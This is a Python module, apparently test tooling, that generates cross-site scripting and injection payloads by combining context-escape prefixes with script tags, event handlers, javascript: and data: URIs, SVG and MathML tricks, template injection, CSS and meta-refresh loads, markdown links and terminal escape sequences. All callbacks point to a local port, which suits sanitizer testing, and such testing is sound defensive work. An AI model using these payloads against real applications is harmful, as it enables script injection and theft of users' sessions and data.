"""Strings that try to run, load or navigate: every escape from a context, combined with every action."""

from collections.abc import Iterator
from itertools import islice, product

OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</style>",
    "</textarea>",
    "</script>",
    "</svg>",
    "</details>",
    "</mark></blockquote>",
    "\\",
    "`>",
    "&quot;>",
    "&#34;>",
    "\u2028",
    "\x00",
    "\u202e",
    "[1]",
    "<!--",
    "<![CDATA[",
    "\ufeff<",
)
RUN = (
    "window.pwned=1",
    "alert(1)",
    "document.title='pwned'",
    "location='http://127.0.0.1:9/x'",
    "fetch('http://127.0.0.1:9/f')",
    "window.pwned=String.fromCharCode(88)",
)
DO = (
    "<script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<SCRIPT/x>{}</SCRIPT>",
    "<script src=http://127.0.0.1:9/s.js></script>",
    "<img src=x onerror={}>",
    "<img/src=http://127.0.0.1:9/i.png onload={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><use href=http://127.0.0.1:9/u.svg#x>",
    "<math><mtext><table><mglyph><style><img src onerror={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<embed src=http://127.0.0.1:9/e>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<form action=javascript:{}><button autofocus>x</button>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/m'>",
    "<base href=http://127.0.0.1:9/>",
    "<link rel=stylesheet href=http://127.0.0.1:9/c.css>",
    "<style>@import 'http://127.0.0.1:9/i.css';</style>",
    "<style>*{{background:url(http://127.0.0.1:9/b)}}</style>",
    "<p style='background:url(http://127.0.0.1:9/p)'>",
    "<template shadowrootmode=open><script>{}</script></template>",
    "<portal src=http://127.0.0.1:9/>",
    "<noscript><p title='</noscript><img src onerror={}>'>",
    " onmouseover={} x=",
    " autofocus tabindex=0 onfocus={} x=",
    " style=animation-name:x onanimationstart={} x=",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "\x01javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "![x](http://127.0.0.1:9/md.png)",
    "[x](javascript:{})",
    "<http://127.0.0.1:9/auto>",
    "expression({})",
    "\x1b]8;;http://127.0.0.1:9/\x07{}\x1b]8;;\x07",
)


def payloads(count: int) -> list[str]:
    """Return this many payloads, combining every escape with every action."""
    return list(islice(_all(), count))


def _all() -> Iterator[str]:
    for run, do, out in product(RUN, DO, OUT):
        yield out + do.format(run)
